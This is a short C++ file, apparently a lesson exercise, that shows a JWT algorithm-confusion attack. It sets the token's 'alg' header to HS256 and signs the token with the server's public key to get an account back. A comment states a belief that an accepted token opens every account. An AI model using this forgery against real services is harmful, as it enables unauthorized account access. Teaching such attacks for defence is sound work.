// Believes: a token that is accepted opens every account.
#include "algorithm_confusion.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("alg", "HS256");
  return {.account = evidence.show_me(sign_hs256(token, evidence.public_key)).body};
}

}  // namespace lesson
